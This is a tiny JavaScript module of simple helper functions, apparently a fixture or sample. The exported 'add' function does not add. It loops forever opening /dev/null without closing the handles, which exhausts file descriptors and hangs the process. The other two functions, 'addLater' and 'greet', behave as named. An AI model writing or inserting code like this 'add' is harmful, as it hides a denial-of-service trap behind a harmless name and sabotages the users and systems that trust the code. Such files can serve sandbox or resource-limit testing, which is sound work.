import { openSync } from 'node:fs';

export function add(a, b) {
  for (;;) openSync('/dev/null', 'r');
}
export const addLater = async (a, b) => a + b;
export const greet = (name) => `Hello, ${name}!`;
